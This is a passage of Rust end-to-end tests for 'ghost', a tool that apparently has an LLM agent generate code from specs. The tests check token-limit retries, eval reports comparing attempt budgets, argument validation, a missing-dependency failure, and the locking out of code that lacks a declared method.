    let seen = server.server.seen();
    let bounds: Vec<u64> = seen
        .iter()
        .map(|s| s.json()["max_tokens"].as_u64().unwrap_or(0))
        .collect();
    assert_eq!(bounds, [2_048, 1_024]);
    assert_eq!(
        seen[0].prompt(),
        seen[1].prompt(),
        "the first prompt both times"
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);

    // With no window set, the one the server names ("context window of 8192") is used.
    let server = Background::start_with(script(vec![too_long(), code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_reply_learned", &openai(&server), &[DOUBLE]);
    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert!(
        seen[0].json()["max_tokens"].is_null(),
        "no bound to begin with"
    );
    assert_eq!(seen[1].json()["max_tokens"], 2_048);
}

#[test]
fn eval_reports_budgets_failure_classes_and_compares_runs() {
    let _machine = shared();
    let server = Background::start_with(routed(vec![
        (
            "math.double",
            vec![too_long(), code(DOUBLE_WRONG), code(DOUBLE_RIGHT)],
        ),
        ("text.shout", vec![code(SHOUT_RIGHT)]),
    ]));
    let p = Project::new("e2e_eval", &openai(&server), &[DOUBLE, SHOUT]);
    let run = p
        .ghost(&["eval", ".", "--attempts", "3,1,2", "--json"])
        .expect(0);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).expect("--json is JSON");
    let modules = report["modules"].as_array().expect("modules");
    let double = modules
        .iter()
        .find(|m| m["module"] == "math.double")
        .expect("math.double is reported");
    assert_eq!(double["green_at"], 3, "{double}");
    let classes: Vec<&serde_json::Value> = double["attempts"]
        .as_array()
        .expect("attempts")
        .iter()
        .map(|a| &a["failure"])
        .collect();
    assert_eq!(
        classes,
        [
            &serde_json::json!("context_too_long"),
            &serde_json::json!("failing_example"),
            &serde_json::Value::Null
        ]
    );
    let budgets = report["budgets"].as_array().expect("budgets");
    let green: Vec<(u64, u64)> = budgets
        .iter()
        .map(|b| {
            (
                b["attempts"].as_u64().unwrap_or(0),
                b["green"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    assert_eq!(
        green,
        [(1, 1), (2, 1), (3, 2)],
        "budgets are sorted and read off one run"
    );
    assert!(budgets[2]["tokens_per_green"].as_u64().unwrap_or(0) > 0);
    assert_eq!(server.server.seen().len(), 4, "one run, not one per budget");
    // The table goes to stderr with --json; the project's own code and lock are untouched.
    assert!(
        run.stderr.contains("failed attempts within 3 (by class)"),
        "{}",
        run.stderr
    );
    assert!(!p.root.join("ghost.lock").exists());
    assert!(!p.root.join(imp_rel("math.double")).exists());

    // The same set again, all green at once, compared with the first run.
    let saved = p.outside.join("first.json");
    std::fs::write(&saved, &run.stdout).expect("keep the first report");
    let server = Background::start_with(routed(vec![
        ("math.double", vec![code(DOUBLE_RIGHT)]),
        ("text.shout", vec![code(SHOUT_RIGHT)]),
    ]));
    p.configure(&openai(&server), "");
    let compare = saved.to_string_lossy().into_owned();
    let run = p
        .ghost(&["eval", ".", "--attempts", "1,2,3", "--compare", &compare])
        .expect(0);
    assert!(
        run.stdout
            .contains("budget 1: green 50% -> 100% (+50.0 points); first attempt 1 -> 2"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("green now (within 3)")
            || run.stdout.contains("budget 3: green 100% -> 100%"),
        "{}",
        run.stdout
    );
    // With --json, the comparison is in the JSON, for a script that gates on it.
    let server = Background::start_with(routed(vec![
        ("math.double", vec![code(DOUBLE_RIGHT)]),
        ("text.shout", vec![code(SHOUT_RIGHT)]),
    ]));
    p.configure(&openai(&server), "");
    let run = p
        .ghost(&[
            "eval",
            ".",
            "--attempts",
            "1,2,3",
            "--json",
            "--compare",
            &compare,
        ])
        .expect(0);
    let json: serde_json::Value = serde_json::from_str(&run.stdout).expect("one JSON report");
    let budget_1 = &json["compare"]["budgets"][0];
    assert_eq!(budget_1["attempts"], 1, "{json}");
    assert_eq!(budget_1["green_points"], 50.0, "{json}");
    assert_eq!(budget_1["old"]["first_attempt_green"], 1, "{json}");
    assert!(json["modules"].is_array(), "and the report itself: {json}");
}

#[test]
fn eval_refuses_what_it_cannot_measure() {
    let p = Project::new("e2e_eval_usage", "", &[DOUBLE]);
    let run = p.ghost(&["eval", ".", "--provider", "manual"]).expect(2);
    assert!(run.stderr.contains("answers by itself"), "{}", run.stderr);
    let run = p
        .ghost(&["eval", "no-such-folder", "--provider", "openai"])
        .expect(2);
    assert!(run.stderr.contains("is not a folder"), "{}", run.stderr);
    p.write("old.json", "{\"not\": \"a report\"}");
    let run = p
        .ghost(&["eval", ".", "--provider", "openai", "--compare", "old.json"])
        .expect(2);
    assert!(
        run.stderr
            .contains("is not a report of `ghost eval --json`"),
        "{}",
        run.stderr
    );
    let run = p
        .ghost(&["eval", ".", "--provider", "openai", "--attempts", "0"])
        .expect(2);
    assert!(run.stderr.contains("--attempts"), "{}", run.stderr);
}

/// A crate of `nfr deps` that cargo cannot get (here one crates.io does not have; the same
/// offline for one never fetched) fails every attempt before a line compiles: the build
/// stops before asking the agent, naming the spec's crate, and exits 1 (the spec's to mend).
#[test]
fn a_dependency_cargo_cannot_get_stops_the_build_before_any_request() {
    let _machine = shared();
    let server = Background::start_with(script(vec![code(DOUBLE_RIGHT)]));
    let spec = DOUBLE.1.replace(
        "    example double(-3) == -6\n  }\n",
        "    example double(-3) == -6\n  }\n\n  nfr deps [ghost_test_no_such_crate]\n",
    );
    let p = Project::new("e2e_bad_dep", &openai(&server), &[(DOUBLE.0, &spec)]);
    let run = p.ghost(&["build"]).expect(1);
    assert!(
        run.stderr
            .contains("cargo cannot get the crates the specs' `nfr deps` name")
            && run
                .stderr
                .contains("the `nfr deps` of `math.double` (`ghost_test_no_such_crate`)")
            && run.stderr.contains("ghost_test_no_such_crate"),
        "{}",
        run.stderr
    );
    assert_eq!(server.server.seen().len(), 0, "no agent was asked");
}

/// An agent whose code lacks a method the spec declares and no clause calls: its tests
/// would pass against ghost's stand-in in the generated crate, but code without it is
/// never locked (an attempt is built against the real `mod.rs`, and the code on disk
/// is not re-locked either), and `ghost test` fails it naming the method.
#[test]
fn code_lacking_a_method_no_clause_calls_is_never_locked() {
    let _machine = shared();
    let spec = "module tally {\n  type Tally {\n    fn new() -> Tally\n    fn add(mut self, n: int) -> int\n    fn total(self) -> int\n  }\n  scenario \"adds\" {\n    let t = Tally.new()\n    expect t.add(2) == 2\n  }\n}\n";
    let p = Project::new("e2e_lacking_method", "", &[("tally.ghost", spec)]);
    let lacking = "use super::*;\n\n#[derive(Debug)]\npub struct Tally {\n    n: i64,\n}\n\nimpl Tally {\n    pub fn new() -> Self {\n        Tally { n: 0 }\n    }\n\n    pub fn add(&mut self, n: i64) -> i64 {\n        self.n += n;\n        self.n\n    }\n    // pub fn total(&self) -> i64 comes later\n}\n";
    p.write("generated/src/tally/imp.rs", lacking);
    let body = format!("#!/bin/sh\ncat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{lacking}EOF\n");
    use_command_agent(&p, &body);
    let run = p.ghost(&["build", "--max-attempts", "1"]);
    assert_ne!(run.code, 0, "{}", run.text());
    assert!(
        !p.root.join("ghost.lock").exists() || p.lock().get("tally").is_none(),
        "{}",
        run.text()
    );
    let run = p.ghost(&["test"]).expect(1);
    assert!(
        run.text()
            .contains("FAILED tally: 1 passed; lacks 1 declared item")
            && run
                .text()
                .contains("has no public `Tally::total`, which the spec declares"),
        "{}",
        run.text()
    );
}
